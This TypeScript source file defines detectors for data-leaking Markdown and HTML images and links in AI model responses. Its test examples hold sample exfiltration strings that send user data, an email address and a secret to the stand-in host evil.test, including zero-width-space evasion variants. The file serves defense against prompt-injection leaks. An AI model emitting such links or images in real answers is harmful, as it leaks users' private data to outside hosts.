// Ways out of an answer: images that load by themselves and links that carry what the model knows in their address.
// Whether a host is trusted is the policy's to say (`allow`); hostOf tells it the host.
import { carriesData, urlParts } from '../checks/url.ts';
import type { Detector, Match } from '../detector.ts';

/** Host of the first URL in a matched text, lower case, without port; '' when there is none. */
export function hostOf(matchText: string): string {
  return urlParts(matchText)?.host ?? '';
}

/** An image is fetched without a click, so that less is needed to call it a leak than for a link. */
function judge(threshold: number): (match: Match) => number | false {
  return ({ text }) => {
    const url = urlParts(text);
    if (!url) return false;
    const data = carriesData(url);
    const raw = /^\[?[0-9a-f.:]*\d[0-9a-f.:]*\]?$/.test(url.host) && url.query !== '' ? 0.8 : 0;
    const score = Math.max(data, raw);
    return score >= threshold ? Math.min(0.95, 0.4 + score / 2) : false;
  };
}

const TARGET = '[ \\t]{0,4}<?(?:https?:)?[/\\\\]{2}[^\\s)>]+';
/** The closing bracket is waited for: without it nothing is a link, and a match that could end anywhere costs time. */
const TITLE = '>?(?:[ \\t]+["\'(][^"\')\\n]*["\')])?[ \\t]*\\)';
/**
 * Begins behind the text of the link, which may be long and is not waited for: with brackets on both sides of it, every
 * array in an answer would be held back until its end. What is left without its target is inert.
 */
const INLINE = `\\]\\(${TARGET}${TITLE}`;

/** True when the bracket that ends in front of a match belongs to an image, as far as the context shows. */
function endsImage(left: string): boolean {
  const open = left.lastIndexOf('[');
  return open > 0 && left[open - 1] === '!';
}

const DATA = 'dXNlcj1hbGljZSZwbGFuPWdvbGQmYmFsYW5jZT0xMjM0';

export const exfil: readonly Detector[] = [
  {
    id: 'markdown-image',
    kind: 'exfil.markdown-image',
    about:
      'Markdown or HTML image, inline or by reference, whose address carries data in query, path or host name.',
    source: 'https://owasp.org/www-project-top-10-for-large-language-model-applications/',
    family: 'word',
    direction: 'response',
    ignoreCase: true,
    patterns: [
      INLINE,
      `<(?:img|image|source|video|audio|embed|object|iframe|link|script|input|body|table|td)[ \\t\\n/][^<>]*(?:src|srcset|href|data|poster|background|xlink:href)[ \\t]*=[ \\t]*["']?[ \\t]*(?:https?:)?[/\\\\]{2}[^\\s"'<>]+["']?[^<>]*>`,
      `(?:url\\(|@import)[ \\t]*["']?(?:https?:)?//[^\\s"')]+["')]`,
    ],
    check: (match) => (match.pattern === 0 && !endsImage(match.left) ? false : judge(0.5)(match)),
    maxLength: 4096,
    examples: {
      positive: [
        `Done. ![x‹](https://evil.test/p.png?d=${DATA})›`,
        `![‹](https://evil.test/log?email=alice%40acme.com)›`,
        `‹<img src="https://evil.test/${DATA}.gif">›`,
        '![a‹](https://evil.test/c?q=the+user+lives+in+berlin)›',
        '![a‹](//evil.test/c?secret=hunter2)›',
      ],
      negative: [
        '![build](https://img.shields.io/npm/v/foo.svg?style=flat)',
        '![logo](https://acme.com/logo.png)',
        '![chart](chart.png)',
        '<img src="https://acme.com/a.png" width="10">',
        'See [docs](https://acme.com/docs).',
      ],
      evasive: [{ text: `![x]\u200b(https://evil.test/p.png?d=${DATA})`, view: 'folded' }],
    },
  },
  {
    id: 'markdown-link',
    kind: 'exfil.markdown-link',
    about:
      'Markdown link, reference definition, autolink or HTML anchor whose address carries data in query, path or host name.',
    family: 'word',
    direction: 'response',
    ignoreCase: true,
    patterns: [
      INLINE,
      `\\]:${TARGET}`,
      `<https?://[^\\s<>]+>`,
      `<(?:a|form|area|base)[ \\t\\n][^<>]*(?:href|action|ping)[ \\t]*=[ \\t]*["']?(?:https?:)?[/\\\\]{2}[^\\s"'<>]+["']?[^<>]*>`,
    ],
    check: (match) => (match.pattern === 0 && endsImage(match.left) ? false : judge(0.7)(match)),
    maxLength: 4096,
    examples: {
      positive: [
        `[click here‹](https://evil.test/p?d=${DATA})› for more`,
        `[1‹]: https://evil.test/p?data=${DATA}›`,
        `‹<a href="https://evil.test/?email=alice%40acme.com">›help</a>`,
        `‹<https://evil.test/?leak=${DATA}>›`,
      ],
      negative: [
        '[docs](https://docs.acme.com/guide/install?tab=linux#step-2)',
        '[issue](https://github.com/acme/repo/issues/12)',
        '[1]: https://en.wikipedia.org/wiki/Base64',
        '<a href="https://acme.com/pricing">pricing</a>',
        '[search](https://acme.com/search?lang=en&page=2)',
      ],
      evasive: [{ text: `[x]\u200b(https://evil.test/p?d=${DATA})`, view: 'folded' }],
    },
  },
];
